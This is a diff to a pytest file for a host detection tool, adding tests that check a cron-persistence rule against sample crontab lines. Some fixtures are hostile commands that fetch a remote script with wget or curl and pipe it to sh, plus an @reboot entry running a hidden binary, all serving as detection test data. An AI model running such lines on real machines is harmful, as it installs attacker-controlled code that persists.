@@ -4,7 +4,8 @@ from __future__ import annotations
 
 import pytest
 
-from kubewitness.model.host import Host
+from kubewitness.model.evidence import Place
+from kubewitness.model.host import CronEntry, Host
 from tests.detect.host.making import exec_line, file, found, host, rules
 
 
@@ -107,3 +108,33 @@ def test_talk_of_histories_is_silent() -> None:
     )
     machine.files.append(file("/root/.bash_history", "history\nhistory | grep x\nexport HISTSIZE=5000\n"))
     assert not found(machine, "history_wiped")
+
+
+def test_schedules_that_were_read_are_judged_once_with_the_line_of_their_file() -> None:
+    line = "*/10 * * * * root wget -q -O - http://203.0.113.35/u.sh | sh"
+    table = file("/etc/cron.d/x", f"# m h\n{line}\n")
+    place = Place(table.place.item, 2, 6, len(line))
+    schedule = CronEntry("/etc/cron.d/x", "*/10 * * * *", line.partition("root ")[2], place, "root")
+    (finding,) = found(Host("n", files=[table], schedules=[schedule]), "cron_persistence")
+    assert finding.places == ((place, line),)
+
+
+def test_what_crontab_printed_is_judged_without_a_table() -> None:
+    schedule = CronEntry("", "@reboot", "/var/tmp/.system -B", Place("crontab_-l.txt", 1, 0), "eve")
+    (finding,) = found(Host("n", schedules=[schedule]), "cron_persistence")
+    assert finding.subject == "crontab_-l.txt: @reboot eve /var/tmp/.system -B"
+
+
+@pytest.mark.parametrize(
+    ("line", "speaks"),
+    [
+        ("* * * * * sh%curl -s http://203.0.113.8/x | sh", True),
+        ("* * * * * /usr/bin/true\rno crontab for root", True),
+        ("0 5 * * 1 tar -zcf /var/backups/home-$(date +\\%F).tgz /home/", False),
+        ("0 5 * * 1 mail -s hello root%Good morning%/tmp is full", False),
+        ("0 5 * * 1 /usr/bin/true\r", False),
+    ],
+)
+def test_input_of_a_command_and_lines_that_hide(line: str, speaks: bool) -> None:
+    machine = Host("n", files=[file("/var/spool/cron/root", line + "\n")])
+    assert bool(found(machine, "cron_persistence")) is speaks
